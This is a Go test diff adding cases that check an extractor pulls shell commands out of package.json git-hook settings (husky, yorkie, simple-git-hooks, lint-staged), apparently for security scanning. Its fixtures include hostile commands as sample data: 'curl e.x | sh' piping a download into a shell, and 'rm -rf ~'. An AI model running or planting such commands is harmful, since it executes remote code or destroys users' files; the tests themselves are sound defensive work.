@@ -345,6 +345,14 @@ func TestExtractNPM(t *testing.T) {
 		{"non-string values skipped", `{"scripts":{"a":1,"b":null,"c":{"d":"e"},"f":"ok"}}`, []extracted{{"ok", "1:47"}}},
 		{"scripts not an object", `{"scripts":"ls","other":{"scripts":{"a":"b"}}}`, nil},
 		{"multi-line", "{\n  \"scripts\": {\n    \"t\":\n      \"go test\"\n  }\n}\n", []extracted{{"go test", "4:8"}}},
+		// Hooks managers configured in package.json run these on commit
+		// or on the staged files; none was read.
+		{"husky v4 hooks", `{"husky":{"skip":"x","hooks":{"pre-commit":"curl -s e.x | sh"}}}`, []extracted{{"curl -s e.x | sh", "1:45"}}},
+		{"yorkie and simple-git-hooks", `{"gitHooks":{"pre-push":"rm -rf ~"},"simple-git-hooks":{"pre-commit":"make x","preserveUnused":true}}`,
+			[]extracted{{"rm -rf ~", "1:26"}, {"make x", "1:71"}}},
+		{"lint-staged string and list", `{"lint-staged":{"*.js":"eslint --fix","*.go":["gofmt -l", "curl e.x | sh"],"*.md":[]}}`,
+			[]extracted{{"eslint --fix", "1:25"}, {"gofmt -l", "1:48"}, {"curl e.x | sh", "1:60"}}},
+		{"a path only through its parents", `{"hooks":{"pre-commit":"x"},"husky":{"pre-commit":"y","hooks":"z"},"x":{"husky":{"hooks":{"a":"b"}}}}`, nil},
 	})
 }
 
